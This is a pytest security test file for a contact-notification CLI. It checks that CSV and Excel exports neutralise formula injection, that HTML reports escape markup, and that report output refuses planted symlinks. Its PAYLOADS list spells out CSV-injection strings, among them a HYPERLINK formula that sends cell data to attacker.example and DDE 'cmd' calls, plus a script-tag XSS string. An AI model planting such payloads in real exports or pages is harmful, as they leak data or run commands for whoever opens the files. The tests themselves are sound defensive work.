"""Exports opened by people: spreadsheet formulas, HTML, and where report files go.

Contacts whose names, titles, organisations or addresses start with a formula
character, a manual note that does, are sent to a local server (127.0.0.1); then
every export is read back: ``contacts --format csv``, ``report --format csv`` (and
``--excel``) must show text, never a formula; ``report --format html`` and the
preview's pages must escape markup.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from seckit import cli_in_process, write_config, write_rows

from notify.localserver import LocalServer

pytestmark = [pytest.mark.security, pytest.mark.integration]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    '<script>alert("xss")</script>',
]
ROWS = [
    ["=1+1@exemple.fr", PAYLOADS[0], "Dupont", PAYLOADS[1], PAYLOADS[2]],
    ["+33600000000@exemple.fr", PAYLOADS[3], PAYLOADS[4], PAYLOADS[5], PAYLOADS[6]],
    ["-moins@exemple.fr", PAYLOADS[6], "Martin", "", "=cmd"],
    ["normal@exemple.fr", "Anne", "Durand", "@titre", "+org"],
]


def cells(text: str, delimiter: str = ",") -> list[str]:
    """Every cell of a CSV text (a BOM removed)."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_no_formula(text: str, delimiter: str = ",") -> None:
    """No cell would be run as a formula by a spreadsheet."""
    found = cells(text, delimiter)
    assert found
    bad = [c for c in found if c.startswith(FORMULA_STARTS)]
    assert not bad, bad


@pytest.fixture
def sent_journal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A journal where the hostile contacts were sent to and one was marked by hand."""
    book = write_rows(tmp_path / "contacts.csv", ROWS)
    monkeypatch.chdir(tmp_path)
    with LocalServer(tmp_path / "received") as server:
        write_config(tmp_path, port=server.port)
        code, output = cli_in_process("send", "--template", "colleague-warning", str(book), "--yes")
        assert code == 0, output
        assert len(server.received) == len(ROWS)
    code, output = cli_in_process(
        "mark", "normal@exemple.fr", "--state", "notified-other", "--note", PAYLOADS[0]
    )
    assert code == 0, output
    return book


def test_contacts_csv_shows_formulas_as_text(sent_journal: Path) -> None:
    """``notify contacts --format csv``: no cell starts with = + - @ tab or CR."""
    code, output = cli_in_process("contacts", "--format", "csv", str(sent_journal))
    assert code == 0, output
    assert_no_formula(output)
    assert "'=HYPERLINK" in output


@pytest.mark.parametrize("excel", [False, True], ids=["csv", "excel"])
def test_report_csv_shows_formulas_as_text(sent_journal: Path, excel: bool) -> None:
    """``notify report --format csv`` (and ``--excel``): names, addresses, notes and
    server replies are text, never formulas."""
    args = ["report", "--format", "csv", "--out", "report.csv"] + (["--excel"] if excel else [])
    code, output = cli_in_process(*args)
    assert code == 0, output
    text = (sent_journal.parent / "report.csv").read_text(encoding="utf-8")
    assert_no_formula(text, ";" if excel else ",")
    assert "'=HYPERLINK" in text  # the note, kept, as text


def test_report_html_and_preview_pages_escape_markup(sent_journal: Path) -> None:
    """A name holding <script> is escaped in the HTML report and the preview pages."""
    code, output = cli_in_process("report", "--format", "html", "--out", "report.html")
    assert code == 0, output
    code, output = cli_in_process("preview", "--template", "colleague-warning", str(sent_journal))
    assert code == 0, output
    folder = sent_journal.parent
    pages = [folder / "report.html", *sorted((folder / "outbox").rglob("*.html"))]
    assert len(pages) > 2
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text, page
        assert "<script" not in text.lower().replace("&lt;script", ""), page


def test_report_out_does_not_follow_a_symbolic_link(sent_journal: Path) -> None:
    """``report --out`` on a symbolic link (planted by another user in a shared folder):
    refused, exit 2; the file it points to is neither truncated nor re-moded."""
    folder = sent_journal.parent
    victim = folder / "victim.txt"
    victim.write_text("precious\n")
    victim.chmod(0o644)
    (folder / "report.md").symlink_to(victim)
    code, output = cli_in_process("report", "--out", "report.md")
    assert victim.read_text() == "precious\n"
    assert victim.stat().st_mode & 0o777 == 0o644
    assert code == 2, output
